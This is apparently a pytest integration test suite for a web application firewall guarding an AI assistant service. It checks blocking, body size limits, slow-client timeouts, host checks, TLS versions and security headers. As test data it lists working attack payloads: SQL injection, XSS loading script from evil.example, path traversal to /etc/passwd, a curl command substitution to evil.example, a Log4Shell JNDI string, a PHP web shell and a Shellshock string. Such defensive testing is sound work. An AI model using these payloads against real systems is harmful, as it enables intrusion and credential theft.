"""The firewall of a real front door: attacks end there, ordinary questions pass, and sizes and times have limits."""

from __future__ import annotations

import contextlib
import json
import socket
import ssl
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from domicile.controllers.door.door import Limits
from tests.integration.door_server import Site, without_login

QUESTIONS = (Path(__file__).parent / "data" / "questions.txt").read_text().splitlines()
INJECTIONS = (
    "1' OR '1'='1",
    "1' OR 1=1 -- -",
    "' UNION SELECT username, password FROM users--",
    "1; DROP TABLE users; --",
    "admin'--",
    "1' AND SLEEP(5)#",
    "' OR EXISTS(SELECT * FROM users WHERE name='admin') AND ''='",
    "1) UNION ALL SELECT NULL,NULL,CONCAT(0x7162,0x71)-- -",
    "'; EXEC xp_cmdshell('dir'); --",
    "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM t GROUP BY x)a)-- -",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert('x')>",
    '"><script src=https://evil.example/x.js></script>',
    '<a href="jav\tascript:alert(1)">x</a>',
    "<math><mtext></table></math><img src onerror=alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
)
OTHERS = ("../../../../etc/passwd", "; cat /etc/passwd", "$(curl http://evil.example)", "${jndi:ldap://evil.example/a}",
          "<?php system($_GET['c']); ?>", "() { :; }; /bin/bash -c 'id'")  # fmt: skip


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    limits = Limits(client_requests=30000, tenant_requests=30000, body_bytes=3 * 2**20)
    with without_login(tmp_path_factory.mktemp("door"), limits=limits) as made:
        yield made


@pytest.mark.parametrize("attack", [*INJECTIONS, *SCRIPTS, *OTHERS])
def test_attacks_end_at_the_door(site: Site, attack: str) -> None:
    """In a query, a form, a field of JSON, a field of an upload; and under the names of chat fields in a link."""
    site.assistant.seen.clear()
    upload = {"file": ("notes.txt", b"harmless", "text/plain")}
    answers = {
        "query": site.web.get("/a/open/x", params={"q": attack}),
        "form": site.web.post("/a/open/x", data={"title": attack}),
        "json": site.web.post("/a/open/x", json={"title": attack, "message": "hello"}),
        "deep": site.web.post("/a/open/x", json={"a": [{"b": {"c": [attack]}}]}),
        "upload": site.web.post("/a/open/x", files=upload, data={"title": attack}),
    }
    answers |= {f"{f} in a link": site.web.get("/a/open/x", params={f: attack}) for f in ("message", "prompt")}
    assert {name: a.status_code for name, a in answers.items()} == dict.fromkeys(answers, 403)
    assert site.assistant.seen == []


@pytest.mark.parametrize("name", ["shell.php", "x.phtml", ".htaccess", "../../x.txt"])
def test_uploads_with_names_of_programs_end_at_the_door(site: Site, name: str) -> None:
    site.assistant.seen.clear()
    answer = site.web.post("/a/open/x", files={"file": (name, b"x", "text/plain")})
    assert answer.status_code in {400, 403}
    assert site.assistant.seen == []


@pytest.mark.parametrize(
    "body",
    [
        lambda q: {"message": q, "stream": True, "history": [{"question": q, "answer": q}]},
        lambda q: {"model": "m", "messages": [{"role": "user", "content": q}]},
        lambda q: {"model": "m", "messages": [{"role": "user", "content": [{"type": "text", "text": q}]}]},
    ],
    ids=["ours", "openai", "openai parts"],
)
def test_ordinary_questions_pass(site: Site, body: Any) -> None:
    assert len(QUESTIONS) == len(set(QUESTIONS)) == 200
    refused = [q for q in QUESTIONS if site.web.post("/a/open/api/chat", json=body(q)).status_code != 200]
    assert refused == []


def test_ordinary_questions_pass_in_a_link(site: Site) -> None:
    refused = [q for q in QUESTIONS if site.web.get("/a/open/chat", params={"message": q}).status_code != 200]
    assert refused == []


def test_what_people_paste_into_a_chat_passes(site: Site) -> None:
    for attack in (*INJECTIONS, *SCRIPTS, *OTHERS):
        assert site.web.post("/a/open/api/chat", json={"message": attack}).status_code == 200, attack


def test_a_tenant_can_do_without_a_rule(site: Site) -> None:
    attack = {"q": "1' OR '1'='1"}
    assert site.web.get("/a/open/x", params=attack).status_code == 403
    (blocked,) = {line["rule"] for line in site.door.events("httpd") if line.get("rule", "").startswith("942")} & {
        "942100"
    }
    site.configure(exclusions=(int(blocked),))
    assert site.web.get("/a/open/x", params=attack).status_code == 200
    assert site.web.get("/a/open/x", params={"q": SCRIPTS[0]}).status_code == 403
    site.configure(exclusions=())
    assert site.web.get("/a/open/x", params=attack).status_code == 403


def test_large_bodies_pass_up_to_the_limit(site: Site) -> None:
    most = site.door.door.limits.body_bytes
    assert site.web.post("/a/open/api/chat", json={"message": "word " * (most // 5 - 100)}).status_code == 200
    text = b"line of text\n" * (most // 13 - 100)
    assert site.web.post("/a/open/x", files={"file": ("big.txt", text, "text/plain")}).json()["length"] > most - 3000
    site.assistant.seen.clear()
    for answer in (
        site.web.post("/a/open/x", json={"message": "x" * most}),
        site.web.post("/a/open/x", files={"file": ("big.txt", b"x" * most, "text/plain")}),
        site.web.post("/a/open/x", content=iter([b"{", b'"message": "', *([b"x" * 65536] * 60), b'"}']),
                      headers={"Content-Type": "application/json"}),
    ):  # fmt: skip
        assert answer.status_code == 413
    assert site.assistant.seen == []


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (b"{", "application/json"),
        (b'{"a":' * 200 + b"1" + b"}" * 200, "application/json"),
        (b"--x\r\nnonsense", "multipart/form-data; boundary=x"),
    ],
)
def test_a_body_that_the_firewall_can_not_read_goes_nowhere(site: Site, body: bytes, kind: str) -> None:
    site.assistant.seen.clear()
    answer = site.web.post("/a/open/x", content=body, headers={"Content-Type": kind})
    assert answer.status_code == 400 or "Content-Type" in answer.text
    assert site.assistant.seen == []


@pytest.mark.parametrize(
    "kind",
    [
        None,
        "",
        "text/plain",
        "application/octet-stream",
        "application/jsonp",
        "application/vnd.api+json",
        "application/cloudevents+json",
        "multipart/related; boundary=x",
    ],
)
def test_a_body_of_a_type_that_nothing_reads_goes_nowhere(site: Site, kind: str | None) -> None:
    """Many an assistant reads JSON whatever the type says."""
    site.assistant.seen.clear()
    headers = {} if kind is None else {"Content-Type": kind}
    attack = json.dumps({"title": INJECTIONS[0]}).encode()
    for body in (lambda: attack, lambda: iter([attack])):
        for method in ("POST", "PUT", "PATCH", "DELETE"):
            assert site.web.request(method, "/a/open/x", content=body(), headers=headers).status_code == 403
    assert site.assistant.seen == []
    assert site.web.post("/a/open/x").status_code == 200, "no body needs no type"


def test_methods_of_a_rest_api_pass_and_others_do_not(site: Site) -> None:
    for method in ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"):
        assert site.web.request(method, "/a/open/x").status_code == 200
    for method in ("TRACE", "CONNECT", "PROPFIND", "DEBUG", "get"):
        line = f"{method} /a/open/x HTTP/1.1"
        answer = site.door.raw(line, f"Host: {site.door.door.host}", "Connection: close")
        assert not answer.startswith(b"HTTP/1.1 200"), method


def test_whoever_dawdles_is_cut_off(site: Site) -> None:
    host = f"Host: {site.door.door.host}\r\n"
    slow = (
        b"",
        f"GET /a/open/x HTTP/1.1\r\n{host}".encode(),
        f"POST /a/open/x HTTP/1.1\r\n{host}Content-Type: text/plain\r\nContent-Length: 100000\r\n\r\nx".encode(),
    )
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    begun = time.monotonic()
    with contextlib.ExitStack() as stack:
        streams = []
        for data in slow:
            plain = stack.enter_context(socket.create_connection(("127.0.0.1", site.door.door.https_port), timeout=30))
            stream = stack.enter_context(context.wrap_socket(plain))
            stream.sendall(data)
            streams.append(stream)
        assert site.web.get("/a/open/x").status_code == 200
        for stream in streams:
            received = b""
            with contextlib.suppress(OSError):
                while piece := stream.recv(4096):
                    received += piece
            assert not received or received.split()[1] in {b"400", b"408"}
    assert time.monotonic() - begun < 25


def test_another_host_name_is_not_served(site: Site) -> None:
    for host in ("evil.example", "localhost", f"evil.example:{site.door.door.https_port}"):
        assert site.web.get("/a/open/x", headers={"Host": host}).status_code == 421
    assert site.door.raw("GET /a/open/x HTTP/1.0").split()[1] in {b"400", b"421"}
    absolute = "GET https://evil.example/a/open/x HTTP/1.1"
    assert site.door.raw(absolute, f"Host: {site.door.door.host}", "Connection: close").split()[1] in {b"400", b"421"}


def test_answers_carry_what_protects_browsers(site: Site) -> None:
    headers = site.web.get("/a/open/x").headers
    assert headers["strict-transport-security"] == "max-age=31536000"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "SAMEORIGIN"
    assert headers["referrer-policy"] == "same-origin"
    assert headers["cache-control"] == "no-store"
    assert "Apache/" not in str(site.web.get("/nothing").headers)
    site.assistant.more_headers = [("Cache-Control", "max-age=60")]
    try:
        assert site.web.get("/a/open/x").headers.get_list("cache-control") == ["max-age=60"]
    finally:
        site.assistant.more_headers = []


def test_redirects_name_the_port_that_browsers_see(site: Site) -> None:
    public = site.door.door.host
    site.configure(host="assistants.bank.test")
    try:
        answer = site.door.raw("GET /a HTTP/1.1", "Host: assistants.bank.test", "Connection: close")
    finally:
        site.configure(host=public)
    assert b"\r\nLocation: https://assistants.bank.test/a/\r\n" in answer


@pytest.mark.parametrize(("version", "works"), [("TLSv1_1", False), ("TLSv1_2", True), ("TLSv1_3", True)])
def test_versions_of_tls(site: Site, version: str, works: bool) -> None:
    context = ssl.create_default_context(cafile=site.door.folder.parent / "ca.crt")
    context.set_ciphers("DEFAULT@SECLEVEL=0")
    context.minimum_version = context.maximum_version = ssl.TLSVersion[version]
    with contextlib.nullcontext() if works else pytest.raises(httpx.ConnectError):
        assert httpx.get(site.door.url + "/a/open/x", verify=context).status_code == 200


def test_answers_and_bodies_stream(site: Site) -> None:
    site.assistant.go_on.clear()
    with site.web.stream("GET", "/a/open/stream") as answer:
        pieces = answer.iter_raw()
        assert next(pieces) == b"first"
        site.assistant.go_on.set()
        assert next(pieces) == b"last"
